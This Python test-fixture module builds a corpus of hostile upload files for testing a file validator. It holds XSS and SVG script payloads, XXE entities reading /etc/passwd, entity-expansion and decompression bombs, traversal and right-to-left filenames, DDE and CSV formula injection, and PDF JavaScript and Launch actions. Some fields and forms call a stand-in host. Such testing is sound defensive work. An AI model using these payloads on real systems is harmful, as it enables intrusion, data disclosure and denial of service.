"""Hostile files, generated: what a file may pretend, hide, fetch, or grow into.

Each carries a canary; wherever one is given out in the end, what is given out is judged.
"""

import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from io import BytesIO
from itertools import product

from PIL import Image, PngImagePlugin

from tests.factories.files import archive, document, pdf, picture, sheet

CANARY = b"c4n4ry"
SCRIPT = b"<script>alert('c4n4ry')</script>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
EXTERNAL = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.example/%s" '
    'Target="http://c4n4ry.example/x" TargetMode="External"/></Relationships>'
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file to send: what it tries, its name as it is sent, its bytes."""

    what: str
    name: str
    data: bytes


ACTIVE: dict[str, bytes] = {
    "html": b"<!DOCTYPE html><html><body>" + SCRIPT,
    "html after space": b"\n\n  <html>" + SCRIPT,
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(/c4n4ry/)"/>',
    "xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY c4n4ry SYSTEM "file:///etc/passwd">]><x/>',
    "javascript": b"#!/usr/bin/env node\nalert('c4n4ry')",
    "shell": b"#!/bin/sh\necho c4n4ry",
    "program": b"MZ\x90\x00\x03" + CANARY + bytes(200),
    "elf": b"\x7fELF\x02\x01\x01" + CANARY + bytes(200),
    "postscript": b"%!PS-Adobe-3.0\n% c4n4ry",
    "rtf": rb"{\rtf1{\object\objocx c4n4ry}}",
    "nothing": b"",
    "zeros": bytes(4096),
}


def _honest() -> dict[str, bytes]:
    return {
        "png": picture(),
        "jpg": picture("JPEG"),
        "webp": picture("WEBP"),
        "gif": picture("GIF"),
        "pdf": pdf(),
        "txt": b"Hello, c4n4ry.\n",
        "csv": b"a,b\n1,c4n4ry\n",
        "docx": document("c4n4ry"),
        "xlsx": sheet("c4n4ry"),
    }


def list_hostile() -> list[Hostile]:
    """The whole corpus, always the same."""
    return [*_pretending(), *_named(), *_pictures(), *_bombs(), *_office(), *_pdfs(), *_texts()]


def _pretending() -> Iterator[Hostile]:
    """Content under the name of something else."""
    honest = _honest()
    for ending, (kind, data) in product(honest, honest.items()):
        if ending != kind and {ending, kind} != {"txt", "csv"}:
            yield Hostile(f"{kind} as {ending}", f"a.{ending}", data)
    for ending, (kind, data) in product(("png", "txt", "pdf", "docx", "csv"), ACTIVE.items()):
        yield Hostile(f"{kind} as {ending}", f"a.{ending}", data)
    for kind, data in ACTIVE.items():
        ending = kind.partition(" ")[0]
        yield Hostile(f"{kind} as itself", f"a.{ending}", data)


def _named() -> Iterator[Hostile]:
    """Names that lead elsewhere, hide their end, or never end; with honest and other content."""
    png = picture()
    names = {
        "path up": "../../../etc/cron.d/c4n4ry.png",
        "path up, other bars": "..\\..\\c4n4ry.png",
        "absolute": "/etc/passwd.png",
        "drive": "C:\\Windows\\c4n4ry.png",
        "own key": "0" * 32 + ".png",
        "turned round": "c4n4ry\u202egnp.exe",
        "turned round, honest end": "exe.\u202egnp.png",
        "marks": "c4\u200bn4\u2066ry\u2069.png",
        "NUL": "a.png\0.exe",
        "NUL first": "a.exe\0.png",
        "line break": "a\r\nContent-Type: text/html\r\n.png",
        "64k": "a" * 65_536 + ".png",
        "64k of ends": ".png" * 16_384,
        "only an end": ".png",
        "no end": "c4n4ry",
        "dots": "....png",
        "double": "a.php.png",
        "double, other way": "a.png.php",
        "capitals": "a.PnG",
        "space at the end": "a.png ",
        "stream": "a.png::$DATA",
        "question": "a.html?.png",
        "hash": "a.svg#.png",
        "semicolon": "a.asp;.png",
        "markup": "<img src=x onerror=alert(1)>.png",
        "quotes": 'a";filename="b.html.png',
        "percent": "%2e%2e%2fa%00.png",
        "full width": "a．png",
        "device": "CON.png",
        "htaccess": ".htaccess",
        "card number": "4111 1111 1111 1111.png",
        "surrogates": "a\udcff.png",
    }
    for what, name in names.items():
        yield Hostile(f"name: {what}", name, png)
    for what in ("turned round", "double, other way", "NUL", "path up"):
        yield Hostile(f"name and content: {what}", names[what], ACTIVE["html"])


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_header(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    idat = _chunk(b"IDAT", zlib.compress(bytes(4096)))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + idat + _chunk(b"IEND", b"")


def _pictures() -> Iterator[Hostile]:
    honest = _honest()
    for kind in ("png", "jpg", "gif", "webp"):
        data = honest[kind]
        yield Hostile(f"{kind} and html behind", f"a.{kind}", data + SCRIPT)
        yield Hostile(f"{kind} and a zip behind", f"a.{kind}", data + archive({"a": SCRIPT}))
        yield Hostile(f"{kind} cut in half", f"a.{kind}", data[: len(data) // 2])
        yield Hostile(f"{kind} beginning alone", f"a.{kind}", data[:24])
        yield Hostile(f"{kind} with noise", f"a.{kind}", data[:40] + CANARY * 9 + data[94:])
    yield Hostile("gif and script", "a.gif", b"GIF89a/*" + bytes(9) + b"*/=alert('c4n4ry')//;")
    exif = Image.Exif()
    exif[0x010E] = exif[0x013B] = "c4n4ry"
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 31.0, 12.0), 29: "c4n4ry"})
    for form, kind in (("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp")):
        yield Hostile(f"{kind} with a place", f"a.{kind}", picture(form, exif=exif))
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "c4n4ry <script>")
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>c4n4ry</x:xmpmeta>")
    info.add_text("zipped", "c4n4ry" * 500, zip=True)
    yield Hostile("png with words", "a.png", picture(pnginfo=info))
    yield Hostile("jpg with a comment", "a.jpg", picture("JPEG", comment=SCRIPT))
    yield Hostile("jpg with a profile", "a.jpg", picture("JPEG", icc_profile=CANARY * 200))
    yield Hostile("gif with a comment", "a.gif", picture("GIF", comment=SCRIPT))


def _bombs() -> Iterator[Hostile]:
    """What is small on the wire and large in memory, or takes for ever."""
    for width, height in ((50_000, 50_000), (2**31 - 1, 2**31 - 1), (1, 2**31 - 1), (0, 0)):
        yield Hostile(f"png of {width} × {height}", "a.png", _png_header(width, height))
    yield Hostile("png all of one colour", "a.png", picture(size=(9000, 9000)))
    yield Hostile("jpg all of one colour", "a.jpg", picture("JPEG", (9000, 9000)))
    text = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(40_000_000)))
    png = picture()
    yield Hostile("png with packed words", "a.png", png[:33] + text + png[33:])
    frames = [Image.new("P", (2000, 2000), one) for one in range(60)]
    kept = BytesIO()
    frames[0].save(kept, "GIF", save_all=True, append_images=frames[1:])
    yield Hostile("gif of many frames", "a.gif", kept.getvalue())
    yield Hostile("gif of a large canvas", "a.gif", b"GIF89a\xff\xff\xff\xff\x00\x00\x00;")
    big = b"\0" * 80_000_000
    yield Hostile("docx that unpacks to 80 MB", "a.docx", document(word__media__a=big))
    yield Hostile("docx of a ratio of 1000", "a.docx", document(word__media__a=big[:8_000_000]))
    many = {f"word/p{n}.xml": "<a/>" for n in range(3000)}
    yield Hostile("docx of 3000 parts", "a.docx", document(**many))
    inner = archive({"a": big[:20_000_000]})
    nested = archive({f"{n}.zip": inner for n in range(16)})
    yield Hostile("docx with a nested zip", "a.docx", document(word__a_zip=nested))
    yield Hostile("docx with a zip by its name", "a.docx", document(**{"word/a.zip": nested}))
    yield Hostile("docx that lies about sizes", "a.docx", _lying(document("a" * 3_000_000)))
    yield Hostile("docx of overlapping parts", "a.docx", _overlapping())
    stream = zlib.compress(big)
    body = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(stream), stream)
    yield Hostile("pdf that unpacks to 80 MB", "a.pdf", pdf(body))
    yield Hostile("pdf of many objects", "a.pdf", pdf(*[b"<<>>"] * 200_000))
    yield Hostile("pdf of many brackets", "a.pdf", pdf(b"<<" * 400_000, b"(" * 400_000))
    yield Hostile("11 MB of text", "a.txt", b"Hello.\n" * 1_600_000)
    yield Hostile("9 MB of digits", "a.txt", b"4111 1111 " * 900_000)
    yield Hostile("9 MB in one line", "a.csv", b"a," * 4_500_000)


def _lying(data: bytes) -> bytes:
    """The archive with small sizes in its directory."""
    start = data.index(b"PK\x01\x02", data.index(b"word/document.xml") + 20)
    start = data.index(b"PK\x01\x02", start + 4)
    return data[: start + 24] + struct.pack("<I", 5) + data[start + 28 :]


def _overlapping() -> bytes:
    """An archive whose entries all point at one part."""
    made = BytesIO(document())
    with zipfile.ZipFile(made, "a") as kept:
        first = kept.getinfo("word/document.xml")
        for number in range(50):
            twin = zipfile.ZipInfo(f"word/p{number}.xml")
            for name in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(twin, name, getattr(first, name))
            kept.filelist.append(twin)
            kept.NameToInfo[twin.filename] = twin
        kept._didModify = True
    return made.getvalue()


def _office() -> Iterator[Hostile]:
    rels = "word/_rels/document.xml.rels"
    xxe = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
    laughs = '<!DOCTYPE l [<!ENTITY a "c4n4ry"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
    parts: dict[str, dict[str, bytes | str]] = {
        "a macro": {"word/vbaProject.bin": CANARY},
        "a macro in capitals": {"WORD/VBAPROJECT.BIN": CANARY},
        "an ActiveX control": {"word/activeX/activeX1.xml": "<ax:ocx/>"},
        "an embedded program": {"word/embeddings/oleObject1.bin": CANARY},
        "an html part": {"word/afchunk.html": SCRIPT},
        "a template from elsewhere": {rels: EXTERNAL % "attachedTemplate"},
        "a frame from elsewhere": {rels: EXTERNAL % "frame"},
        "a picture from elsewhere": {rels: EXTERNAL % "image"},
        "an object from elsewhere": {rels: EXTERNAL % "oleObject"},
        "relations in single quotes": {rels: (EXTERNAL % "image").replace('"', "'")},
        "an entity of a file": {"word/styles.xml": xxe},
        "laughing entities": {"word/settings.xml": laughs},
        "an entity in UTF-16": {"word/settings.xml": laughs.encode("utf-16")},
        "a part outside": {"../../c4n4ry.xml": "<a/>"},
        "an absolute part": {"/etc/c4n4ry.xml": "<a/>"},
        "a part with bars": {"word\\..\\c4n4ry.xml": "<a/>"},
        "two of one name": {"word/Document.xml": "<a/>"},
        "a field that fetches": {
            "word/header1.xml": '<w:instrText>INCLUDETEXT "http://c4n4ry.example"</w:instrText>'
        },
        "a field that runs": {"word/footer1.xml": "<w:instrText>DDEAUTO c:\\cmd</w:instrText>"},
        "properties": {
            "docProps/core.xml": "<dc:creator>c4n4ry</dc:creator>",
            "docProps/app.xml": "<Company>c4n4ry</Company>",
            "docProps/custom.xml": "<p>c4n4ry</p>",
        },
    }
    for what, more in parts.items():
        yield Hostile(f"docx with {what}", "a.docx", document(**more))
    yield Hostile("docx with a card number", "a.docx", document("Card 4111 1111 1111 1111"))
    split = "4111</w:t></w:r><w:r><w:t> 1111 1111 1111"
    yield Hostile("docx with a card number in parts", "a.docx", document(split))
    yield Hostile("docx without a document", "a.docx", archive({"[Content_Types].xml": "<T/>"}))
    yield Hostile("docx behind a program", "a.docx", ACTIVE["program"] + document())
    yield Hostile("docx with html behind", "a.docx", document() + SCRIPT)
    locked = bytearray(document())
    locked[6] |= 1
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    yield Hostile("docx with a password", "a.docx", bytes(locked))
    outside = {"[Content_Types].xml": "<T/>", "xl/workbook.xml": "<w/>"}
    link = {"xl/externalLinks/externalLink1.xml": "<a/>"}
    yield Hostile("xlsx with an outside book", "a.xlsx", archive({**outside, **link}))
    yield Hostile("xlsx with a mail address", "a.xlsx", sheet("amina@c4n4ry.example"))


def _pdfs() -> Iterator[Hostile]:
    script = b"<< /S /JavaScript /JS (app.alert('c4n4ry')) >>"
    packed = zlib.compress(script)
    objects = {
        "a script": script,
        "a script in disguise": b"<< /S /J#61vaScript /J#53 (c4n4ry) >>",
        "a packed script": b"<< /Filter /FlateDecode >>\nstream\n" + packed + b"\nendstream",
        "a program to start": b"<< /S /Launch /F (c4n4ry.exe) >>",
        "another file": b"<< /Type /EmbeddedFile >>\nstream\nc4n4ry\nendstream",
        "a form that sends": b"<< /S /SubmitForm /F (http://c4n4ry.example) >>",
        "a film": b"<< /Subtype /RichMedia >>",
        "an XFA form": b"<< /XFA [1 0 R] >>",
        "a password": b"<< /Encrypt 1 0 R >>",
        "a card number": b"stream\nBT (4111 1111 ) Tj (1111 1111) Tj ET\nendstream",
    }
    for what, data in objects.items():
        yield Hostile(f"pdf with {what}", "a.pdf", pdf(data))
    yield Hostile("pdf behind html", "a.pdf", ACTIVE["html"] + pdf())
    yield Hostile("pdf without an end", "a.pdf", pdf()[:-8])
    yield Hostile("pdf and a zip", "a.pdf", pdf() + archive({"a": SCRIPT}))


def _texts() -> Iterator[Hostile]:
    texts = {
        "EICAR": EICAR,
        "a card number": b"name,card\nAmina,4111 1111 1111 1111\n",
        "a mail address": b"Write to amina@c4n4ry.example",
        "an account number": b"DE89 3704 0044 0532 0130 00",
        "controls": b"c4n4ry \x1b]0;title\x07 \x1b[2J",
        "NUL behind": b"c4n4ry" * 900 + b"\0<script>",
        "html behind": b"Hello.\n" * 900 + SCRIPT,
        "no encoding": b"c4n4ry \x81\x8d\x8f\x90",
        "UTF-16": "<script>c4n4ry".encode("utf-16"),
        "UTF-7": b"+ADw-script+AD4-c4n4ry",
        "formulas": b"=cmd|'/C c4n4ry'!A0,+1,-1,@SUM(1)",
        "a byte order mark and html": b"\xef\xbb\xbf<html>" + SCRIPT,
    }
    for (what, data), kind in product(texts.items(), ("txt", "csv")):
        yield Hostile(f"{kind} with {what}", f"a.{kind}", data)
